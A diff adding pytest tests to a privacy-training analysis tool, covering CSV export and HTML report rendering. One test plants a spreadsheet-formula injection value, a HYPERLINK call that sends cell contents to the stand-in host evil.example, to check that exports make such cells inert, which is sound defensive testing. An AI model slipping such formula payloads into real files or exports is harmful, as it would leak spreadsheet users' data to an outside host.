@@ -12,7 +12,7 @@ from dpsat_core import RunStore, SweepSpec, TrainConfig, cached_analyses, figure
 from dpsat_core.cli import main
 from dpsat_core.compare import comparisons_at, group_runs, verdict
 from dpsat_core.export import ExportError, figure_bytes, results_csv, results_json
-from dpsat_core.report import bottom_line_rows, build_report, report_figures, write_report
+from dpsat_core.report import bottom_line_rows, build_report, render_html, report_figures, write_report
 
 
 @pytest.fixture(scope="module")
@@ -139,3 +139,42 @@ def test_cli_report_and_export(swept, tmp_path, capsys):
     assert len(json.loads(capsys.readouterr().out)) == len(swept.list_runs())
     assert main(["report", "--store", str(swept.path), "--out", str(tmp_path), "--dataset", "digits"]) == 2
     assert "no finished runs for data set 'digits'" in capsys.readouterr().err
+
+
+def _stored_run(store: RunStore, dataset: str, target: str) -> str:
+    """A finished run on a data set named by the user (no training: a plausible summary is stored)."""
+    from tests.factories import summary
+
+    config = TrainConfig(dataset=dataset, target=target, method="dpsgd", epsilon=2.0, epochs=1)
+    run_id = store.create_run(config)
+    store.finish(run_id, summary(config, accuracy=0.75, epsilon_spent=1.9, seconds_per_epoch=1.0), {})
+    return run_id
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_a_spreadsheet_would_run_are_made_inert_and_numbers_stay_numbers(start, tmp_path, capsys):
+    from tests.factories import spectrum
+
+    store = RunStore(tmp_path / "runs.db")
+    dataset = f'{start}HYPERLINK("http://evil.example/?"&A1,"open").csv'
+    run_id = _stored_run(store, dataset, f"{start}SUM(A1:A9)")
+    spectra = {run_id: spectrum(-0.05)}  # a negative trace (-0.5) is a number, not a formula
+    (row,) = csv.DictReader(io.StringIO(results_csv(store.list_runs(), spectra).decode()))
+    assert row["config.dataset"] == "'" + dataset and row["config.target"] == f"'{start}SUM(A1:A9)"
+    assert row["trace"] == "-0.5" and row["lambda_max"] == "-0.05" and row["test_accuracy"] == "0.75"
+    assert main(["export", "--format", "csv", "--store", str(store.path)]) == 0  # the CLI writes the same
+    (cli_row,) = csv.DictReader(io.StringIO(capsys.readouterr().out))
+    assert cli_row["config.dataset"] == "'" + dataset
+
+
+def test_the_report_writes_an_infinite_epsilon_as_infinity(swept):
+    import dataclasses
+    import math
+
+    report = build_report(swept)
+    row = report.headline[0]
+    cells = (dataclasses.replace(row.cells[0], epsilon_spent_mean=math.inf), *row.cells[1:])
+    page = render_html(
+        dataclasses.replace(report, headline=(dataclasses.replace(row, cells=cells),)), static_images=False
+    )
+    assert "ε spent ∞" in page and "ε spent inf" not in page
